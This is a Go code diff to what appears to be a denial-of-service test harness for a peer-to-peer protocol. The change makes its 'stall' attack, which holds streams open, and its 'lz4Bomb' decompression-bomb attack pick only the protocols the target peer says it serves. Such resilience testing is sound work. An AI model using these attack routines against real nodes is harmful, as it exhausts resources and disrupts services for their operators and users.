@@ -129,12 +129,18 @@ func pexLast(ctx context.Context, p Params) (int, error) {
 	})
 }
 
-// streamProtocols are those whose streams the target reads.
-func streamProtocols(ns string) []protocol.ID {
-	return []protocol.ID{
-		wire.ProtocolID(ns, "pex"), wire.ProtocolID(ns, "view"), wire.ProtocolID(ns, "view", "packed"),
-		wire.ProtocolID(ns, "view", "lz4"), wire.ProtocolID(ns, "view", "packed", "lz4"),
+// served gives those of the protocols of a namespace that the target says it
+// serves.
+func (a *attacker) served(ns string, names ...string) ([]protocol.ID, error) {
+	ids := make([]protocol.ID, len(names))
+	for i, name := range names {
+		ids[i] = wire.ProtocolID(ns, name)
 	}
+	served, err := a.host.Peerstore().SupportsProtocols(a.target, ids...)
+	if err == nil && len(served) == 0 {
+		err = fmt.Errorf("the target serves none of %v", ids)
+	}
+	return served, err
 }
 
 // stall opens streams, writes one byte, and holds them.
@@ -144,7 +150,10 @@ func stall(ctx context.Context, p Params) (int, error) {
 		return 0, err
 	}
 	defer a.close()
-	protocols := streamProtocols(p.Namespace)
+	protocols, err := a.served(p.Namespace, "pex", "view", "view/packed", "view/lz4", "view/packed/lz4")
+	if err != nil {
+		return 0, err
+	}
 	var open int
 	var refused []error
 	for i := range p.Times {
@@ -180,11 +189,9 @@ func lz4Bomb(ctx context.Context, p Params) (int, error) {
 		return 0, err
 	}
 	defer a.close()
-	var protocols []protocol.ID
-	for i, id := range streamProtocols(p.Namespace) {
-		if i == 0 || i > 2 {
-			protocols = append(protocols, id)
-		}
+	protocols, err := a.served(p.Namespace, "pex", "view/lz4", "view/packed/lz4")
+	if err != nil {
+		return 0, err
 	}
 	for i := range p.Times {
 		stream, err := a.host.NewStream(ctx, a.target, protocols[i%len(protocols)])
